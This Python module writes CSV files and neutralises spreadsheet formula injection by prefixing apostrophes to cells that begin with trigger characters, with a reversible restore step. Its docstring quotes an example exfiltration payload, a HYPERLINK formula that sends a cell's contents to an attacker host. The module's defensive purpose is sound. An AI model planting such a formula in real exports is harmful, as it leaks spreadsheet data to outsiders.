"""The one CSV writer: RFC 4180 quoting and formula-injection safety for every CSV output.

A spreadsheet treats a text cell that starts with ``=``, ``+``, ``-``, ``@`` (and, in some
programs, tab, CR, LF or NUL) as a formula; a crawled anchor text or page title can carry
``=HYPERLINK("http://attacker/?"&A1)``. Text cells whose first character after any leading
spaces and quotes is such a trigger, or its fullwidth form (``＝＋－＠``, which some spreadsheets
fold to ASCII on input), get a leading apostrophe, as OWASP and ASVS 5.0 (1.2.10) recommend.
Numbers (``int``/``float`` values, never their text) are written bare and never prefixed, so a
negative count stays a number. Every text cell is quoted and embedded quotes are doubled.

The escape is reversible: ``restore`` drops the apostrophe exactly when ``neutralise`` added it
(a value that itself starts with apostrophes before a trigger gets one more), so reading a
file back with ``read_rows`` gives every original text. See docs/decisions.md, "CSV safety".
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as _dt
import re
from collections.abc import Iterable, Iterator, Sequence
from typing import Any, TextIO

__all__ = [
    "FORMULA_PATTERN",
    "TRIGGERS",
    "cell",
    "neutralise",
    "read_rows",
    "restore",
    "write_records",
    "write_rows",
]

# OWASP's triggers, ASVS's NUL, and the fullwidth forms of = + - @.
TRIGGERS = "=+-@\t\r\n\x00" + "\uff1d\uff0b\uff0d\uff20"
# The same rule as one regular expression that both Python's re and RE2 (DuckDB, Arrow) accept:
# group 1 is the part the apostrophe goes in front of. Spreadsheets that trim leading spaces
# would still see the formula, hence the spaces; leading apostrophes keep the escape reversible.
FORMULA_PATTERN = "^('*[ ]*[=+\\-@\\t\\r\\n\\x00\uff1d\uff0b\uff0d\uff20])"
_NEEDS = re.compile(FORMULA_PATTERN)
_ADDED = re.compile("^'+[ ]*[=+\\-@\\t\\r\\n\\x00\uff1d\uff0b\uff0d\uff20]")


def neutralise(text: str) -> str:
    """``text`` with a leading apostrophe when a spreadsheet could read it as a formula."""
    return "'" + text if _NEEDS.match(text) else text


def restore(text: str) -> str:
    """The original text of a cell written by ``neutralise`` (the inverse, exactly)."""
    return text[1:] if _ADDED.match(text) else text


def cell(value: Any) -> str | int | float:
    """One value as a CSV cell: numbers stay numbers, everything else safe text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)  # before int: bool is an int subclass, but no spreadsheet number
    if isinstance(value, int | float):
        return value
    if isinstance(value, _dt.datetime):
        return value.isoformat()
    if isinstance(value, tuple | list | frozenset | set):
        # No lists in CSV: items space-separated, as the table export writes them.
        items = sorted(value) if isinstance(value, frozenset | set) else value
        return neutralise(" ".join(str(v) for v in items))
    return neutralise(str(value))


def _writer(stream: TextIO) -> Any:
    # QUOTE_NONNUMERIC quotes every str and leaves int/float bare: exactly the rule above.
    return csv.writer(stream, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\n")


def write_rows(stream: TextIO, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> int:
    """Write a header and rows of plain values as safe CSV; returns the rows written."""
    writer = _writer(stream)
    writer.writerow([cell(h) for h in header])
    n = 0
    for row in rows:
        writer.writerow([cell(v) for v in row])
        n += 1
    return n


def write_records(
    stream: TextIO, records: Sequence[Any], columns: Sequence[str] | None = None
) -> int:
    """Write dataclass records (every field, or ``columns``) as safe CSV; returns rows."""
    if columns is None:
        if not records:
            raise ValueError("write_records needs columns when there are no records")
        columns = [f.name for f in dataclasses.fields(records[0])]
    names = list(columns)
    return write_rows(stream, names, ([getattr(r, n) for n in names] for r in records))


def read_rows(stream: TextIO) -> Iterator[list[str]]:
    """Rows of a CSV file written here, each cell restored to its original text."""
    for row in csv.reader(stream):
        yield [restore(c) for c in row]
